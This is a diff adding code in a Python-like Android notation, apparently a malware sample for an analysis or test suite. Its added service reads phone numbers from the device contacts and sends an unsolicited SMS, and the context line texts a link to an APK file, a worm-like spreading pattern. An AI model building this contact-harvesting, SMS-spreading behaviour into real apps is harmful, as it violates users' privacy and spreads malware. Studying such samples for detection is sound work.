@@ -24,3 +24,23 @@ class Main(Activity):
         self.tell("look: https://example.org/a.apk")
     def tell(self, number: String):
         SmsManager.getDefault().sendTextMessage(number, None, number, None, None)
+
+# also: from a service, through a list of numbers
+@launcher
+class Main(Activity):
+    def onCreate(self, state):
+        super().onCreate(state)
+        self.startService(Intent(self, Tell))
+
+@service
+class Tell(Service):
+    def onStartCommand(self, intent, flags, number):
+        place = Uri.parse("content://contacts")
+        rows = self.getContentResolver().query(place, None, None, None, None)
+        numbers = ArrayList()
+        while rows.moveToNext():
+            numbers.add(rows.getString(1))
+        self.tell(cast(String, numbers.get(0)))
+        return 1
+    def tell(self, number: String):
+        SmsManager.getDefault().sendTextMessage(number, None, "look", None, None)
